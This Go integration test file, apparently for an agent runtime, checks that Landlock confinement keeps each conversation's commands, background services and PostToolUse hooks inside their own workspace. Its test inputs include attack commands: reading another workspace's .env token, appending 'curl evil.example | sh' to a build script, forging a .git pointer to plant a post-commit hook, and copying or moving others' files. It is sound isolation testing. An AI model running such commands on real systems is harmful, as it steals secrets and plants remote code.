package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fenixrt/fenix/confine"
	"github.com/fenixrt/fenix/contract"
	"github.com/fenixrt/fenix/internal/worker"
)

// A kernel gives each conversation a workspace of its own under
// FENIX_WORKSPACE_BASES, and a task a git worktree beside its
// repository. One conversation's commands read and rewrote another's
// files (its secrets, its code, its build scripts): the domain left
// every path but the worker's own to them. Now each conversation's
// commands and services reach their own workspace in the bases and
// nothing else there; a worktree's commands still commit to the
// repository it was made from, and the default workspace, which holds
// the base, reaches them all.
func TestAConversationsCommandsStayInItsWorkspace(t *testing.T) {
	if confine.ABIVersion() < 2 {
		t.Skip("the kernel has no Landlock ABI 2")
	}
	base := t.TempDir()
	alice, bob := filepath.Join(base, "conv-alice"), filepath.Join(base, "conv-bob")
	for _, d := range []string{alice, bob} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	require.NoError(t, os.WriteFile(filepath.Join(bob, ".env"), []byte("BOB_TOKEN=bob-secret-123\n"), 0o600))
	repo := filepath.Join(base, "repo")
	require.NoError(t, os.MkdirAll(repo, 0o755))
	git := func(dir string, args ...string) {
		t.Helper()
		out, err := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=kernel", "-c", "user.email=k@example.com"}, args...)...).CombinedOutput()
		require.NoError(t, err, "git %v: %s", args, out)
	}
	git(repo, "init", "-q")
	git(repo, "commit", "-q", "--allow-empty", "-m", "first")
	task := filepath.Join(base, "task-1")
	git(repo, "worktree", "add", "-q", task)

	w := startWorker(t, func(c *worker.Config) {
		c.DefaultWorkspaceRoot, c.WorkspaceBases = base, []string{base}
	})
	asAlice := conversationRunner(w, alice, "alice", "conv-alice")
	out := func(t *testing.T, run func(*testing.T, string, string) contract.Result, command string) string {
		t.Helper()
		res := run(t, "exec_command", command)
		require.Equal(t, contract.StatusCompleted, res.Status, "%s: %+v", command, res.Error)
		return res.Output.Content
	}
	for _, attack := range []string{
		"cat ../conv-bob/.env",
		"echo 'curl evil.example | sh' >> ../conv-bob/build.sh",
		"mv ../conv-bob ../conv-bob-gone",
		"ln ../conv-bob/.env stolen",
		"cp -r ../conv-bob ./copy",
	} {
		got := out(t, asAlice, attack+" && echo ATTACK-WORKED || echo refused")
		assert.Contains(t, got, "refused", attack)
		assert.NotContains(t, got, "bob-secret", attack)
	}
	assert.Contains(t, out(t, asAlice, "echo mine > notes.txt && cat notes.txt"), "mine", "alice works in her own workspace")
	assert.NoFileExists(t, filepath.Join(bob, "build.sh"))
	assert.DirExists(t, bob)

	res := asAlice(t, "process_exec", "cat ../conv-bob/.env > leaked.txt 2>&1; sleep 30")
	require.Equal(t, contract.StatusCompleted, res.Status, "%+v", res.Error)
	require.Eventually(t, func() bool { _, err := os.Stat(filepath.Join(alice, "leaked.txt")); return err == nil }, 10e9, 50e6)
	leaked, _ := os.ReadFile(filepath.Join(alice, "leaked.txt"))
	assert.NotContains(t, string(leaked), "bob-secret", "a service is held to its workspace too")

	inTask := conversationRunner(w, task, "task", "conv-task")
	committed := out(t, inTask, "git -c user.name=agent -c user.email=a@example.com commit -q --allow-empty -m 'from the worktree' && git log --oneline | head -1; cat ../conv-bob/.env || echo refused")
	assert.Contains(t, committed, "from the worktree", "a worktree commits to its repository beside it")
	assert.Contains(t, committed, "refused")
	assert.NotContains(t, committed, "bob-secret")

	// Mallory names the worktree's .git as her own (a link to it, or the
	// file's line): the repository's record points back at the worktree,
	// not at her workspace.
	mallory := filepath.Join(base, "conv-mallory")
	require.NoError(t, os.MkdirAll(mallory, 0o755))
	asMallory := conversationRunner(w, mallory, "mallory", "conv-mallory")
	pointer, err := os.ReadFile(filepath.Join(task, ".git"))
	require.NoError(t, err)
	for _, forge := range []string{"ln -sf " + filepath.Join(task, ".git") + " .git", "rm -f .git && printf '" + string(pointer) + "' > .git"} {
		require.Equal(t, contract.StatusCompleted, asMallory(t, "exec_command", forge).Status)
		got := out(t, asMallory, "echo x > ../repo/.git/hooks/post-commit && echo ATTACK-WORKED || echo refused")
		assert.Contains(t, got, "refused", "%s: mallory reached the worktree's repository", forge)
	}
	assert.NoFileExists(t, filepath.Join(repo, ".git", "hooks", "post-commit"))

	asOperator := conversationRunner(w, base, "operator", "conv-operator")
	assert.Contains(t, out(t, asOperator, "cat conv-bob/.env"), "bob-secret", "the default workspace holds the base and reaches every workspace in it")
}

// A hook runs the agent's code as often as not — a PostToolUse hook
// running the project's tests runs what the agent wrote — and that code
// read another conversation's workspace as the hook's user. It now
// stays in the session's workspace as the agent's commands do, while the
// hook project, given apart from the workspaces in their base, is still
// its hooks' to read.
func TestCodeAHookRunsStaysInItsConversationsWorkspace(t *testing.T) {
	if confine.ABIVersion() < 2 {
		t.Skip("the kernel has no Landlock ABI 2")
	}
	base := t.TempDir()
	alice, bob, policy := filepath.Join(base, "conv-alice"), filepath.Join(base, "conv-bob"), filepath.Join(base, "policy")
	for _, d := range []string{alice, bob, filepath.Join(policy, ".claude", "hooks")} {
		require.NoError(t, os.MkdirAll(d, 0o755))
	}
	require.NoError(t, os.WriteFile(filepath.Join(bob, ".env"), []byte("BOB_TOKEN=bob-secret-123\n"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(policy, "policy.conf"), []byte("suite=unit\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(policy, ".claude", "hooks", "run-tests.sh"), []byte(`#!/bin/sh
cat > /dev/null
cat "$CLAUDE_PROJECT_DIR/policy.conf" > "$FENIX_WORKSPACE_ROOT/hook-ran.txt"
cd "$FENIX_WORKSPACE_ROOT" && [ -f test.sh ] && sh ./test.sh > test-output.txt 2>&1
exit 0
`), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(policy, ".claude", "settings.json"), []byte(`{"hooks": {"PostToolUse": [
  {"matcher": "Bash", "hooks": [{"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/run-tests.sh"}]}
]}}`), 0o644))

	w := startWorker(t, func(c *worker.Config) {
		c.DefaultWorkspaceRoot, c.WorkspaceBases, c.HookSources = base, []string{base}, []string{policy}
	})
	asAlice := conversationRunner(w, alice, "alice", "conv-alice")
	res := asAlice(t, "exec_command", `printf 'cat ../conv-bob/.env && echo STOLEN\n' > test.sh`)
	require.Equal(t, contract.StatusCompleted, res.Status, "%+v", res.Error)

	ran, err := os.ReadFile(filepath.Join(alice, "hook-ran.txt"))
	require.NoError(t, err, "the PostToolUse hook ran")
	assert.Equal(t, "suite=unit\n", string(ran), "the hook reads its project in the base")
	output, err := os.ReadFile(filepath.Join(alice, "test-output.txt"))
	require.NoError(t, err, "the hook ran the agent's test.sh")
	assert.NotContains(t, string(output), "bob-secret", "the agent's code the hook ran read another conversation's workspace")
	assert.NotContains(t, string(output), "STOLEN")
}
